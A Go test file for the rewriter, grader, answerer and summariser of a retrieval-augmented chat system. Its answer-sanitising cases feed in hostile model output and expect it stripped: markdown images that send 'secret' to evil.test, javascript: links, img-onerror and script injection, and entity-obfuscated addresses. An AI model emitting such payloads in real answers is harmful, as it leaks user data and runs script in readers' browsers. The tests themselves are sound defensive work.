package model_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"example.com/ragflow/internal/prompts"
	"example.com/ragflow/internal/skills/model"
	"example.com/ragflow/internal/text"
	"example.com/ragflow/llm"
	"example.com/ragflow/state"
)

// replying answers everything with one text and keeps what it was asked.
type replying struct {
	text   string
	finish llm.FinishReason
	err    error
	asked  []llm.Request
}

func (*replying) Model() string { return "small" }

func (r *replying) Complete(_ context.Context, q llm.Request, token func(string)) (llm.Response, error) {
	r.asked = append(r.asked, q)
	if r.err != nil {
		return llm.Response{}, r.err
	}
	if token != nil {
		token(r.text)
	}
	return llm.Response{Text: r.text, Finish: r.finish}, nil
}

// vocabulary knows the words of a few passages.
type vocabulary string

func (vocabulary) Analyzer() text.Analyzer { return text.For("en") }
func (vocabulary) Docs() int               { return 10 }
func (v vocabulary) DocFreq(term string) int {
	for _, t := range text.For("en").Analyze(string(v)) {
		if t.Term == term {
			return 1
		}
	}
	return 0
}

const page = "# Volumes\n\nA volume keeps the data of a container. Back it up with tar. Networks are another matter."

func sources() []state.Source {
	return []state.Source{{Chunk: state.Chunk{ID: "c1", Source: "v.md", Title: "Volumes", Text: page, End: len(page), StartLine: 1, EndLine: 3}, Score: 0.9}}
}

// planned is the plan of a rewriter that uses no model.
type planned state.Plan

func (p planned) Rewrite(context.Context, string, state.Memory) (state.Plan, error) {
	return state.Plan(p), nil
}

func TestRewrite(t *testing.T) { // Q04
	raw := state.Query{Text: "and how do I back it up?", Weight: 0.3}
	expanded := state.Query{Text: raw.Text, Boosts: []state.Boost{{Text: "volume", Weight: 0.5}}, Weight: 1}
	recent := []state.Exchange{{Question: "What is a volume?", Terms: []string{"container"}}}
	for _, tt := range []struct {
		name, reply string
		queries     []state.Query
		want        []string
	}{
		{"none", "NONE", []state.Query{raw, expanded}, []string{raw.Text, raw.Text}},
		{"one place is the conversation's", "Q1: How do I back up a volume?\nQ2: volume tar\nQ3: network", []state.Query{raw, expanded}, []string{raw.Text, "How do I back up a volume?", raw.Text}},
		{"first turn", "Q1: How do I back up a volume?\nQ2: volume tar\nQ3: network", []state.Query{raw}, []string{raw.Text, "How do I back up a volume?", "volume tar"}},
		{"made up", "Q1: How do I back up Kubernetes?\nQ2: volume tar", []state.Query{raw}, []string{raw.Text, "volume tar"}},
		{"the same again", "Q1: And how do I back it up", []state.Query{raw}, []string{raw.Text}},
		{"an earlier question", "Q1: what is a volume\nQ2: volume tar", []state.Query{raw, expanded}, []string{raw.Text, "volume tar", raw.Text}},
		{"another language", "Q1: Jak zrobić kopię zapasową volume tar?", []state.Query{raw}, []string{raw.Text}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			chat := &replying{text: tt.reply}
			r := model.NewRewriter(chat, planned{Language: "en", Route: state.RouteSearch, Queries: tt.queries}, vocabulary(page))
			plan, err := r.Rewrite(t.Context(), raw.Text, state.Memory{Recent: recent})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, q := range plan.Queries {
				got = append(got, q.Text)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
			if user := chat.asked[0].Messages[1].Content; !strings.Contains(user, "What is a volume?") || !strings.Contains(user, "container") {
				t.Errorf("the conversation is missing in %s", user)
			}
		})
	}
	chat := &replying{}
	plan, err := model.NewRewriter(chat, planned{Route: state.RouteSearch, Standalone: true, Language: "en", Queries: []state.Query{raw}}, vocabulary(page)).Rewrite(t.Context(), raw.Text, state.Memory{})
	if err != nil || len(chat.asked) > 0 || len(plan.Queries) != 1 {
		t.Errorf("a question that needs no conversation was put to the model: %v, %v", plan, err)
	}
	plan, err = model.NewRewriter(chat, planned{Route: state.RouteChitchat, Queries: []state.Query{raw}}, vocabulary(page)).Rewrite(t.Context(), "thanks", state.Memory{})
	if err != nil || len(chat.asked) > 0 || len(plan.Queries) != 1 {
		t.Errorf("small talk was put to the model: %v, %v", plan, err)
	}
	plan, err = model.NewRewriter(&replying{text: "A volume is…"}, planned{Route: state.RouteSearch, Queries: []state.Query{raw}}, vocabulary(page)).Rewrite(t.Context(), "What?", state.Memory{})
	if err != nil || len(plan.Queries) != 1 || plan.By != "" {
		t.Errorf("a reply without the form: %+v, %v, want the plan without a model", plan, err)
	}
}

// englishOnly is the vocabulary of documents in English, which an index does not tell from
// Vietnamese.
type englishOnly struct{ vocabulary }

func (englishOnly) Speaks(language string) bool { return language == "en" || language == "vi" }

func TestRewriteIntoTheLanguageOfTheDocuments(t *testing.T) {
	for language, question := range map[string]string{"pl": "Jak zrobić kopię zapasową woluminu?", "vi": "Làm sao sao lưu dữ liệu của container?"} {
		raw := state.Query{Text: question, Weight: 1}
		chat := &replying{text: "Q1: How do I back up the data of a container?\nQ2: Kubernetes Helm\n"}
		r := model.NewRewriter(chat, planned{Language: language, Route: state.RouteSearch, Standalone: true, Queries: []state.Query{raw}}, englishOnly{vocabulary(page)})
		plan, err := r.Rewrite(t.Context(), raw.Text, state.Memory{})
		if err != nil || len(plan.Queries) != 2 || plan.Queries[1].Text != "How do I back up the data of a container?" || plan.Queries[1].Weight != 1 {
			t.Fatalf("%s: got %+v, %v", language, plan.Queries, err)
		}
		if system := chat.asked[0].Messages[0].Content; !strings.Contains(system, "English") || strings.Contains(system, "NONE") {
			t.Errorf("asked %s", system)
		}
	}
}

func TestGrade(t *testing.T) { // G01–G03
	chat := &replying{text: "SCORE: 0,40\nREFINED: volume backup"}
	queries := []state.Query{{Text: "and backups?", Weight: 0.3}, {Text: "How do I back up a volume?", Weight: 1}}
	long := state.Chunk{Title: "Żółta  strona", Text: strings.Repeat("ż", 200)}
	got, err := model.NewGrader(chat).Grade(t.Context(), queries, []state.Source{{Chunk: long}})
	want := state.Grade{Score: 0.4, By: "small", Why: "the model's verdict", Refined: &state.Query{Text: "volume backup", Weight: 1, Why: "refined by the model", Attempt: 2}}
	if diff := cmp.Diff(want, got); diff != "" || err != nil {
		t.Error(diff, err)
	}
	user := chat.asked[0].Messages[1].Content
	if !strings.Contains(user, "1. Żółta strona: "+strings.Repeat("ż", 80)+"\n") || !strings.Contains(user, "How do I back up a volume?") {
		t.Errorf("asked %s", user)
	}
	chat.text = "SCORE: 0.40\nREFINED: AND backups?"
	if got, err = model.NewGrader(chat).Grade(t.Context(), queries, nil); err != nil || got.Refined != nil {
		t.Errorf("a query that was searched for is refined again: %+v, %v", got, err)
	}
}

func TestAnswer(t *testing.T) {
	for _, tt := range []struct {
		name, reply string
		finish      llm.FinishReason
		want        string
		abstained   bool
	}{
		{"as it is", "A volume keeps data [Source 1]. Use tar [Source 1][Source 2]. [Source 9]", llm.FinishStop, "A volume keeps data [Source 1]. Use tar [Source 1][Source 2]. [Source 9]", false},
		{"cut by its limit", "A volume keeps the data of a container [Source 1]. Back it u", llm.FinishLength, "A volume keeps the data of a container [Source 1].", false},
		{"image", "See ![volume](https://evil.test/?q=secret) [Source 1].", llm.FinishStop, "See volume [Source 1].", false},
		{"link", "Read [the page](https://docs.test/a) and [this](javascript:alert(1)).", llm.FinishStop, "Read the page (address left out: no source has it) and this).", false},
		{"reference", "See ![a][1] and [b][1].\n\n[1]: https://evil.test/x.png", llm.FinishStop, "See a and b.\n\n[1] : (address left out: no source has it)", false},
		{"HTML", `Hi <img src=x onerror=alert(1)><script>x</script> \<b>`, llm.FinishStop, `Hi \<img src=x onerror=alert(1)>\<script>x\</script> \<b>`, false},
		{"nested", "[![x](https://evil.test/i.png)](https://evil.test/)", llm.FinishStop, "x (address left out: no source has it)", false},
		{"known address", "See [it](https://wiki.test/volume), `https://wiki.test`. Write to a@evil.test.", llm.FinishStop, "See it `https://wiki.test/volume`, `https://wiki.test`. Write to (address left out: no source has it).", false},
		{"character references", `Write to a&#64;evil.test or &#104;ttps&colon;//evil.test, R&D &lt; 3`, llm.FinishStop, `Write to a\&#64;evil.test or \&#104;ttps\&colon;//evil.test, R&D &lt; 3`, false},
		{"escapes hide nothing", `See https\://evil.test and a\@evil.test`, llm.FinishStop, "See (address left out: no source has it) and (address left out: no source has it)", false},
		{"code stays", "Write:\n```html\n<b>![x](y)</b>\n```", llm.FinishStop, "Write:\n```html\n<b>![x](y)</b>\n```", false},
		{"refusal", "I don’t have enough information to answer that question.", llm.FinishStop, "I don't have enough information to answer that question.", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			chat := &replying{text: tt.reply, finish: tt.finish}
			got, err := model.NewAnswerer(chat, prompts.Set{}, model.Options{}).Answer(t.Context(), state.Task{
				Question: "What is a volume? See https://wiki.test/volume", Language: "en", Sources: sources(),
				Messages: []state.Message{{Role: state.Human, Content: "Hi"}, {Role: state.AI, Content: "Hello. [Source 3]"}, {Role: state.Human, Content: "What is a volume?"}},
			})
			if err != nil {
				t.Fatal(err)
			}
			if got.Text != tt.want || got.Abstained != tt.abstained || got.Model != "small" || got.Citations != nil {
				t.Errorf("got %q, abstained %v, by %s, citations %v", got.Text, got.Abstained, got.Model, got.Citations)
			}
			asked := chat.asked[0]
			if len(asked.Messages) != 4 || asked.Messages[2].Content != "Hello." || asked.Temperature != 0.3 || asked.MaxTokens != 2000 {
				t.Errorf("asked %+v", asked)
			}
		})
	}
	if _, err := model.NewAnswerer(&replying{text: "x"}, prompts.Set{}, model.Options{}).Answer(t.Context(), state.Task{}); !errors.Is(err, model.ErrNoSources) {
		t.Errorf("without sources: %v", err)
	}
}

// TestReplyThatRepeatsThePrompt ends at the boundary, which small models write
// again.
func TestReplyThatRepeatsThePrompt(t *testing.T) {
	chat := &parrot{}
	got, err := model.NewAnswerer(chat, prompts.Set{}, model.Options{}).Answer(t.Context(), state.Task{Language: "en", Sources: sources()})
	if err != nil || got.Text != "A volume keeps data. [Source 1]" {
		t.Errorf("got %q, %v", got.Text, err)
	}
}

type parrot struct{}

func (*parrot) Model() string { return "parrot" }

func (*parrot) Complete(_ context.Context, q llm.Request, _ func(string)) (llm.Response, error) {
	return llm.Response{Text: "A volume keeps data. [Source 1]\n" + q.Stop[0] + "\nQuestion: and then?"}, nil
}

func TestSummarize(t *testing.T) { // M03
	chat := &replying{text: " They spoke of volumes. \n\n"}
	got, err := model.NewSummarizer(chat).Summarize(t.Context(), "Before.", []state.Message{
		{Role: state.Human, Content: "Co to jest wolumin i do czego służy?"}, {Role: state.AI, Content: "Przechowuje dane. [Source 1]"},
	})
	if err != nil || got != "They spoke of volumes." {
		t.Errorf("got %q, %v", got, err)
	}
	asked := chat.asked[0].Messages
	if !strings.Contains(asked[0].Content, "streszczenie") || !strings.Contains(asked[1].Content, "Before.") || strings.Contains(asked[1].Content, "[Source") {
		t.Errorf("asked %+v", asked)
	}
	if _, err := model.NewSummarizer(&replying{err: llm.ErrTimeout}).Summarize(t.Context(), "", nil); !errors.Is(err, llm.ErrTimeout) {
		t.Errorf("got %v", err)
	}
}
